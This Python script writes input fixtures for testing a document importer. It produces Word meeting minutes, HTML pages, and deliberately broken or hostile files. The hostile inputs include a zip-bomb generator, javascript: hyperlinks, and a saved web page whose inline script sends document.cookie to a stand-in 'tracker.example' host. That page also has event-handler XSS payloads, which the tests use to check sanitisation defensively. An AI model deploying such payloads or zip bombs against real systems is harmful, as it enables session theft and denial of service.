#!/usr/bin/env python3
"""Writes the input fixtures (tests/fixtures/inputs/): a Word document, web
pages, text in other encodings, and hostile or broken files. Run it again
after changing it; the outputs are committed so tests never need Python."""
import io
import struct
import zipfile
import zlib
from pathlib import Path

OUT = Path(__file__).resolve().parent.parent / "tests" / "fixtures" / "inputs"
OUT.mkdir(parents=True, exist_ok=True)
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" ' \
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'


def para(text, style=None, level=None, bold=None):
    props = ""
    if style:
        props += f'<w:pStyle w:val="{style}"/>'
    if level is not None:
        props += f'<w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="1"/></w:numPr>'
    runs = ""
    for piece in text if isinstance(text, list) else [text]:
        if isinstance(piece, tuple) and piece[0] == "b":
            runs += f'<w:r><w:rPr><w:b/></w:rPr><w:t xml:space="preserve">{piece[1]}</w:t></w:r>'
        elif isinstance(piece, tuple) and piece[0] == "a":
            runs += f'<w:hyperlink r:id="{piece[2]}"><w:r><w:t>{piece[1]}</w:t></w:r></w:hyperlink>'
        else:
            runs += f'<w:r><w:t xml:space="preserve">{piece}</w:t></w:r>'
    return f"<w:p><w:pPr>{props}</w:pPr>{runs}</w:p>"


def table(rows):
    out = "<w:tbl>"
    for row in rows:
        out += "<w:tr>" + "".join(f"<w:tc>{para(cell)}</w:tc>" for cell in row) + "</w:tr>"
    return out + "</w:tbl>"


def docx(path, body, styles=True):
    document = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document {W}><w:body>{body}</w:body></w:document>'
    style_xml = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:styles {W}>'
        '<w:style w:type="paragraph" w:styleId="Titre"><w:name w:val="Title"/></w:style>'
        '<w:style w:type="paragraph" w:styleId="Titre1"><w:name w:val="heading 1"/></w:style>'
        '<w:style w:type="paragraph" w:styleId="Titre2"><w:name w:val="heading 2"/></w:style>'
        '<w:style w:type="paragraph" w:styleId="Paragraphedeliste"><w:name w:val="List Paragraph"/></w:style>'
        "</w:styles>"
    )
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId7" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
        'Target="https://example.org/budget-2024.pdf" TargetMode="External"/>'
        '<Relationship Id="rId8" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
        'Target="javascript:alert(1)" TargetMode="External"/>'
        "</Relationships>"
    )
    content_types = (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
        "</Types>"
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", content_types)
        z.writestr("word/document.xml", document)
        if styles:
            z.writestr("word/styles.xml", style_xml)
        z.writestr("word/_rels/document.xml.rels", rels)


# A board meeting written in Word (French style ids, as a French Word saves them).
docx(
    OUT / "board-minutes.docx",
    para("Riverside Library Trust — Board meeting", style="Titre")
    + para("Minutes of 12 March 2024, 18:30 CET, Community Room")
    + para("1. Budget 2024", style="Titre1")
    + para(["The treasurer presented the ", ("a", "draft budget", "rId7"), " and the board discussed the reading-room repairs."])
    + para([("b", "The treasurer will"), " send the revised budget to all trustees by 22 March."], style="Paragraphedeliste")
    + para("2. Volunteers", style="Titre1")
    + para("Trustees are invited to recruit two volunteers for the summer reading programme.", level=0)
    + para(["The chair could ask the council for more funding ", ("a", "(proposal)", "rId8"), "."], level=1)
    + para("Action items", style="Titre1")
    + table([["Action", "Owner", "Due"], ["Book the hall for the AGM", "Secretary", "5 April 2024"], ["Update the website", "Webmaster", "next month"]]),
)

# A Word file without styles.xml: heading style ids must still be recognised.
docx(OUT / "no-styles.docx", para("Short note", style="Heading1") + para("The clerk will file the report."), styles=False)

# Hostile and broken "Word" files.
(OUT / "not-a-zip.docx").write_bytes(b"Minutes of the meeting, saved with the wrong extension.\n")
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
    z.writestr("readme.txt", "not a Word document")
(OUT / "zip-without-document.docx").write_bytes(buf.getvalue())


def zip_bomb(path, size):
    """One deflated part that claims, and expands to, `size` bytes of zeros."""
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b"\0" * (1 << 20)
    data = b"".join(raw.compress(chunk) for _ in range(size >> 20)) + raw.flush()
    name = b"word/document.xml"
    crc = 0
    for _ in range(size >> 20):
        crc = zlib.crc32(chunk, crc)
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(data), size, len(name), 0) + name
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(data), size, len(name), 0, 0, 0, 0, 0, 0) + name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local) + len(data), 0)
    path.write_bytes(local + data + central + end)


zip_bomb(OUT / "zip-bomb.docx", 30 << 20)

# Web pages: a saved page full of scripts, and what Word puts on the clipboard.
(OUT / "saved-page.html").write_text(
    """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Open Data Working Group – notes</title>
<script>document.title = 'pwned'; fetch('https://tracker.example/steal?c=' + document.cookie);</script>
<style>body { background: url(https://tracker.example/bg.png) }</style>
<link rel="stylesheet" href="https://tracker.example/site.css"></head>
<body onload="alert('onload')">
<nav><ul><li><a href="/">Home</a></li><li><a href="/groups">Groups</a></li></ul></nav>
<h1>Open Data Working Group — 4 September 2025</h1>
<p>Present: Amal Haddad (chair), Piotr Nowak, Grace Mensah.</p>
<h2>Decisions and next steps</h2>
<ul>
<li><strong>Piotr</strong> will publish the cleaned dataset on the <a href="https://data.example.org/portal">portal</a> by 15 September.</li>
<li onclick="steal()">Members are encouraged to review the licence draft before the next meeting.</li>
<li>The group could consider a hackathon in spring.</li>
</ul>
<img src="https://tracker.example/pixel.gif" onerror="alert('img')">
<iframe src="https://ads.example/frame"></iframe>
<p><a href="javascript:alert('link')">Click here</a> for <a href="data:text/html,<script>alert(1)</script>">more</a>.</p>
<script>alert('inline at end')</script>
</body></html>
""",
    encoding="utf-8",
)
(OUT / "word-clipboard.html").write_text(
    """<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta charset=utf-8>
<!--[if gte mso 9]><xml><o:OfficeDocumentSettings></o:OfficeDocumentSettings></xml><![endif]-->
<style>p.MsoListParagraph {mso-style-priority:34}</style></head>
<body lang=EN-GB>
<!--StartFragment-->
<p class=MsoTitle>Staff council — 3 June 2025</p>
<p class=MsoNormal>Next steps agreed at the meeting:<o:p></o:p></p>
<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span style='font-family:Symbol'><span style='mso-list:Ignore'>·<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp;</span></span></span><![endif]><b>HR</b> to circulate the revised leave policy by Friday.<o:p></o:p></p>
<p class=MsoListParagraphCxSpLast style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span style='mso-list:Ignore'>·<span>&nbsp;</span></span><![endif]>Team leads are asked to collect feedback from their teams.<o:p></o:p></p>
<!--EndFragment-->
</body></html>
""",
    encoding="utf-8",
)

# Text in other encodings.
text = (
    "Comité de coordination – 7 May 2025\n\n"
    "Décisions et suites\n\n"
    "- Le secrétariat will send the “final” report by 20 May.\n"
)
(OUT / "utf16.txt").write_bytes(b"\xff\xfe" + text.encode("utf-16-le"))
(OUT / "windows-1252.txt").write_bytes(text.encode("cp1252"))
(OUT / "empty.txt").write_bytes(b"")
# A real (tiny) PNG under a text name.
png = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
png += struct.pack(">I", zlib.crc32(png[12:29])) + b"\0\0\0\x0cIDATx\x9cc\xf8\x0f\0\0\x01\x01\0\x05\x18\xd8N\0\0\0\0IEND\xaeB`\x82"
(OUT / "image.png.txt").write_bytes(png)
print("fixtures written to", OUT)
